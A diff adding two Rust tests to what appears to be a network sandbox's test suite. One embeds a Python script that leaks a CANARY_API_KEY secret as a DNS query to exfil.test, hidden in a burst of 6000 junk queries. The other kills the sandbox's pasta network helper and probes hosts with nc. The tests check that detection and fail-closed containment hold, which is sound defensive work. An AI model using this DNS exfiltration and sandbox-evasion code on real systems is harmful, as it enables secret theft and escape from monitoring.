@@ -250,3 +250,58 @@ echo done
     }
     assert_eq!(listener.count(), 0, "{}", show(&out));
 }
+
+/// The guard's refused questions reach exec through a broadcast channel of 1024 events whose
+/// lagging readers skip what they missed: a burst of refused questions around the token's
+/// (asked over TCP, so the guard surely had it) does not push it out. (A burst over UDP
+/// alone also went unseen, but the guard may never have had the token's question then.)
+#[test]
+fn the_canary_trips_on_a_token_hidden_in_a_burst() {
+    let leak = r#"
+import os, socket, struct
+t = os.environ['CANARY_API_KEY']
+def q(name, i):
+    wire = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
+    return struct.pack('>HHHHHH', i & 0xffff, 0x0100, 1, 0, 0, 0) + wire + struct.pack('>HH', 1, 1)
+ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
+socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(8)]
+for s in socks:
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
+for i in range(6000):
+    socks[i % 8].sendto(q('junk%d.exfil.test' % i, i), (ns, 53))
+    if i == 3000:
+        c = socket.create_connection((ns, 53), timeout=3)
+        m = q(t + '.exfil.test', 7)
+        c.sendall(struct.pack('>H', len(m)) + m)
+        if len(c.recv(2)) == 2:
+            print('tcp-answered')
+print('sent')
+"#;
+    let w = World::new();
+    let policy = setup(&w);
+    let script = format!("python3 -c \"$(cat <<'PY'\n{leak}\nPY\n)\"; sleep 1; exit 0");
+    let out = exec(&w, &policy, &["--canary"], &script);
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+}
+
+/// CMD as root may signal pasta (same uid, same pid namespace): killing it cuts CMD off
+/// (fails closed), and the run still ends with CMD's code.
+#[test]
+fn killing_pasta_fails_closed() {
+    let w = World::new();
+    let policy = setup(&w);
+    let allowed = w.listen_tcp(HOST_V4, PORT);
+    let script = r#"
+for p in $(ls /proc | grep '^[0-9]'); do case "$(cat /proc/$p/comm 2>/dev/null)" in passt*|pasta*) kill -9 $(grep NSpid /proc/$p/status | awk '{print $NF}') && echo killed-pasta;; esac; done
+sleep 0.5
+nc -z -w 2 registry.example.test 8080 && echo allowed-still-ok
+nc -z -w 2 192.0.2.10 8080 && echo address-still-ok
+exit 5
+"#;
+    let out = exec(&w, &policy, &[], script);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.contains("killed-pasta"), "{}", show(&out));
+    assert!(!stdout.contains("still-ok"), "{}", show(&out));
+    assert_eq!(out.status.code(), Some(5), "{}", show(&out));
+    assert_eq!(allowed.count(), 0, "{}", show(&out));
+}
